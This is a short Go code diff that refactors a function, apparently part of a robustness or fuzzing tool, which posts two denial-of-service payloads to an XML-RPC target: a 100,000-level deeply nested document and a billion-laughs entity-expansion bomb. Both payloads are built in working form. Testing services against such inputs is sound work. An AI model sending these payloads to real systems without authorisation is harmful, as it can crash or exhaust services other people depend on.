@@ -234,12 +234,13 @@ func slaveDeepXML(ctx context.Context, t Target) error {
 	}
 	deep := "<?xml version=\"1.0\"?><methodCall><methodName>getPid</methodName><params><param>" +
 		strings.Repeat("<value><array><data>", 100000)
-	bomb := `<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a "` + strings.Repeat("a", 50) + `">`
+	var bomb strings.Builder
+	bomb.WriteString(`<?xml version="1.0"?><!DOCTYPE b [<!ENTITY a "` + strings.Repeat("a", 50) + `">`)
 	for i := 'b'; i < 'k'; i++ {
-		bomb += fmt.Sprintf(`<!ENTITY %c "%s">`, i, strings.Repeat(fmt.Sprintf("&%c;", i-1), 10))
+		fmt.Fprintf(&bomb, `<!ENTITY %c "%s">`, i, strings.Repeat(fmt.Sprintf("&%c;", i-1), 10))
 	}
-	bomb += "]><methodCall><methodName>&j;</methodName></methodCall>"
-	for _, body := range []string{deep, bomb} {
+	bomb.WriteString("]><methodCall><methodName>&j;</methodName></methodCall>")
+	for _, body := range []string{deep, bomb.String()} {
 		if err := post(ctx, addr, "text/xml", body); err != nil {
 			return err
 		}
